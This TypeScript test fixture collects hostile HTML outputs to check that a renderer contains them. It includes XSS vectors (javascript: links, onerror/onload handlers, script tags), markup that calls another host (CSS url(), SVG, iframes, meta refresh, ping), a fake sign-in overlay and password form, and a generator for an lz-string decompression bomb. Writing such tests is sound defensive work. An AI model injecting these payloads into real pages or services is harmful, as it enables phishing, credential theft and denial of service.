/**
 * A hostile cell output: every way we know for markup to leave its box, call another host, post a
 * form or run script. `stranger` is the other host's origin (a loopback server in the browser
 * tests, so a request that gets out is counted there too). Each vector is named, so a failure says
 * which one got through.
 */
export function hostileVectors(stranger: string): Record<string, string> {
  const s = stranger.replace(/\/$/, "");
  return {
    // Out of the box.
    "fixed overlay": `<div class="hostile-overlay" style="position:fixed;inset:0;z-index:2147483647;background:#c00;color:#fff">Session expired: sign in again</div>`,
    "sticky overlay": `<div style="position:sticky;top:0;height:100vh;background:#c00">sticky</div>`,
    "fixed, spelled otherwise": `<div style="POSITION : Fixed !important;top:0;left:0;width:100vw;height:100vh;background:#c00">fixed</div>`,
    "absolute and huge": `<div class="hostile-huge" style="position:absolute;top:-5000px;left:-5000px;width:20000px;height:20000px;background:#c00;z-index:2147483647">huge</div>`,
    "scaled up": `<div style="transform:scale(60);background:#c00">scaled</div>`,
    "popover": `<div popover="manual" id="pop">pop</div><button popovertarget="pop">open</button>`,
    "dialog": `<dialog open style="position:fixed;inset:0">dialog</dialog>`,
    "page-wide style": `<style>@import url(${s}/import.css); body { display: none }</style>`,
    // Calls to another host.
    "css background url": `<div style="background:url(${s}/bg.png);width:10px;height:10px">a</div>`,
    "css url, quoted": `<div style="background-image:url('${s}/bg-single.png');width:10px;height:10px">a</div><div style='background-image:url("${s}/bg-double.png");width:10px;height:10px'>a</div>`,
    "css url, upper case": `<div style="background:URL(${s}/bg-upper.png);width:10px;height:10px">a</div>`,
    "css url, escaped": `<div style="background:\\75rl(${s}/bg-escaped.png);width:10px;height:10px">a</div>`,
    "css image-set": `<div style="background-image:image-set('${s}/set.png' 1x);width:10px;height:10px">a</div>`,
    "css url in a variable": `<div style="--x:url(${s}/var.png);background-image:var(--x);width:10px;height:10px">a</div>`,
    "css list, cursor, border images": `<ul style="list-style-image:url(${s}/list.png)"><li>a</li></ul><div style="cursor:url(${s}/cursor.png),auto;border:4px solid;border-image:url(${s}/border.png) 30">a</div>`,
    "svg image": `<svg width="20" height="20"><image href="${s}/svg-image.png" width="10" height="10"/><image xlink:href="${s}/svg-xlink.png" width="10" height="10"/></svg>`,
    "svg use": `<svg width="20" height="20"><use href="${s}/use.svg#a"/></svg>`,
    "svg feImage": `<svg width="20" height="20"><filter id="f"><feImage href="${s}/feimage.png"/></filter><rect width="10" height="10" filter="url(#f)"/></svg>`,
    "svg paint from afar": `<svg width="20" height="20"><rect width="10" height="10" fill="url(${s}/fill.svg#p)" mask="url(${s}/mask.svg#m)"/><rect width="5" height="5" style="filter:url(${s}/filter.svg#f)"/></svg>`,
    "video poster": `<video poster="${s}/poster.png" src="${s}/video.mp4" width="10" height="10"></video><audio src="${s}/audio.mp3" autoplay></audio>`,
    "input type=image": `<input type="image" src="${s}/input.png" alt="go">`,
    "img and picture": `<img src="${s}/img.png" alt=""><picture><source srcset="${s}/source.png"><img alt=""></picture>`,
    "table background": `<table background="${s}/table.png"><tr><td>a</td></tr></table>`,
    "link and meta": `<link rel="stylesheet" href="${s}/link.css"><link rel="prefetch" href="${s}/prefetch"><meta http-equiv="refresh" content="0;url=${s}/refresh"><base href="${s}/">`,
    "frames and plugins": `<iframe src="${s}/frame.html"></iframe><object data="${s}/object.swf"></object><embed src="${s}/embed.swf">`,
    "form": `<form action="${s}/post" method="post"><label>Password <input name="password" type="password"></label><button>Sign in</button><button formaction="${s}/formaction">Go</button></form>`,
    "link ping": `<a class="hostile-ping" href="#hostile-target" ping="${s}/ping">ping</a>`,
    // Script.
    "javascript: links": `<a class="hostile-link" href="javascript:alert('js link')">one</a> <a class="hostile-link" href="JaVaScRiPt:alert('js link 2')">two</a> <a class="hostile-link" href="&#106;avascript:alert('js link 3')">three</a>`,
    "svg javascript: links": `<svg width="60" height="20"><a class="hostile-link" href="javascript:alert('svg link')"><text y="10">svg</text></a><a class="hostile-link" xlink:href="javascript:alert('svg xlink')"><text x="30" y="10">xlink</text></a></svg>`,
    "event handlers": `<img src="x" onerror="alert('onerror')"><svg onload="alert('svg onload')"></svg><div class="hostile-hover" onmouseover="alert('hover')" onclick="alert('click')">hover me</div><details open ontoggle="alert('toggle')"><summary>s</summary></details><div tabindex="0" autofocus onfocus="alert('focus')">focus</div>`,
    "script": `<script>alert('script')</script><svg><script>alert('svg script')</script></svg>`,
    // Ids: the page's own, whatever the quoting, and references to them.
    "page ids": `<div id='starlight__sidebar'>fake sidebar</div><div id=_top>fake top</div><a class="hostile-anchor" href="#_top">top</a><label for="main-content">label</label>`,
    "ids and references": `<svg width="20" height="20"><clipPath id="hostile-target"><rect width="5" height="5"/></clipPath><rect width="10" height="10" clip-path="url('#hostile-target')" style='clip-path: url("#hostile-target")'/></svg>`,
    // How a reader knows the output arrived.
    "marker": `<p class="hostile-marker">Hostile output rendered</p>`,
  };
}

/** All the vectors as one piece of markup. */
export function hostileHtml(stranger: string): string {
  return Object.values(hostileVectors(stranger)).join("\n");
}

const URI_SAFE = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-$";

/**
 * A share link's packed data (lz-string, URI-safe) of `length` characters that decompresses to the
 * most it can: one character, then codes that each stand for a run one longer than the last, so
 * n codes give about n²/2 characters. Written bit by bit, as lz-string reads it (compressing the
 * run itself would take minutes).
 */
export function linkBomb(length: number): { packed: string; expands: number } {
  const out: string[] = [];
  let value = 0;
  let filled = 0;
  const write = (code: number, bits: number) => {
    for (let i = 0; i < bits; i++) {
      value = (value << 1) | ((code >> i) & 1);
      if (++filled === 6) {
        out.push(URI_SAFE[value]);
        value = 0;
        filled = 0;
      }
    }
  };
  write(0, 2); // an 8-bit character follows
  write("a".charCodeAt(0), 8);
  let [dictSize, numBits, enlargeIn, expands, run] = [4, 3, 4, 1, 1];
  // Stop with room for the end code and the last partial character.
  while ((out.length * 6 + filled + 2 * numBits) / 6 < length - 1) {
    write(dictSize, numBits); // "the last run plus its first character": one longer
    run += 1;
    expands += run;
    dictSize += 1;
    if (--enlargeIn === 0) {
      enlargeIn = 2 ** numBits;
      numBits += 1;
    }
  }
  write(2, numBits); // the end
  if (filled > 0) write(0, 6 - filled);
  return { packed: out.join(""), expands };
}
